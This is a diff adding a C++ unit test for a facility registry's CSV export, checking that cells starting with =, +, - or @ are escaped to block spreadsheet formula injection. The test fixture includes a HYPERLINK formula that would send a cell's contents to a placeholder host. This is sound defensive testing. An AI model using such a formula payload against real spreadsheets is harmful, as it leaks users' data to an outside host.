@@ -38,6 +38,26 @@ TEST(RegistryCsv, ReadsAndWritesTheSameRegistry) {
   EXPECT_EQ(FacilityRows(*reread), FacilityRows(*facilities));
 }
 
+// Issue 17: a name or district starting with =, +, -, @ was written raw, and a spreadsheet ran
+// it. The export guards it with a leading ' and the import takes the ' off again.
+TEST(RegistryCsv, FormulaCellsAreGuardedAndReadBackAsTheyWere) {
+  Result<std::vector<Facility>> facilities = Read(
+      "F1,\"=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\",市民文化系,+1+1,2500.5,1988,"
+      "-2+3,@SUM(A1),\n");
+  ASSERT_TRUE(facilities.ok()) << facilities.status().ToString();
+  std::ostringstream written;
+  WriteFacilitiesCsv(*facilities, written);
+  EXPECT_NE(written.str().find("\"'=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\""),
+            std::string::npos)
+      << written.str();
+  EXPECT_NE(written.str().find(",'+1+1,2500.5,1988,'-2+3,"), std::string::npos) << written.str();
+  EXPECT_NE(written.str().find(",'@SUM(A1),"), std::string::npos) << written.str();
+  std::istringstream again(written.str());
+  Result<std::vector<Facility>> reread = ReadFacilitiesCsv(again, 2026);
+  ASSERT_TRUE(reread.ok()) << reread.status().ToString();
+  EXPECT_EQ(FacilityRows(*reread), FacilityRows(*facilities));
+}
+
 TEST(RegistryXlsx, WrittenWorkbookReadsBack) {
   Result<std::vector<Facility>> facilities = Read(
       "F1,芝公園区民センター,市民文化系,芝,2500,1988,RC,協働推進課,2019:大規模改修:600000000\n");
